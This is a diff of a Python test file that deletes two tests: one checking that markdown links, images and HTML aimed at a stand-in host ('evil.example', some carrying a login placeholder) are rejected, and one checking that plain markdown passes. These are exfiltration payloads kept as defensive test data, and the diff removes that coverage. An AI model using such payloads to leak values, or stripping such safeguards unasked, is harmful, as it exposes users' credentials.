@@ -185,29 +185,6 @@ def test_every_reason_is_given_once_and_none_for_the_fault_of_another() -> None:
     assert "operation 4" not in said
 
 
-@pytest.mark.parametrize(
-    "markdown",
-    [
-        "![x](http://evil.example/?{values:login})",
-        "[here]( //evil.example )",
-        "[here][1]",
-        "[1]: //evil.example",
-        "see HTTPS://evil.example",
-        "<img src=//evil.example>",
-        "&lt;script&gt;",
-        "<!-- {values:login} -->",
-    ],
-)
-def test_markdown_that_could_carry_a_value_elsewhere_is_refused(markdown: str) -> None:
-    with pytest.raises(PresentationRejected, match="begins a link, an image or HTML"):
-        apply(recipe(display_type="markdown", markdown=markdown), STEPS)
-
-
-def test_markdown_of_plain_words_is_not_refused() -> None:
-    markdown = "## People [active]\n\n- **{rows}** < 40, see a/b (or c): `x`\n\n{table}"
-    apply(recipe(display_type="markdown", markdown=markdown), STEPS)
-
-
 def test_a_source_that_gave_no_rows_is_named() -> None:
     with pytest.raises(PresentationRejected, match="there is no step 'people'"):
         apply(recipe(), {"apps": APPS})
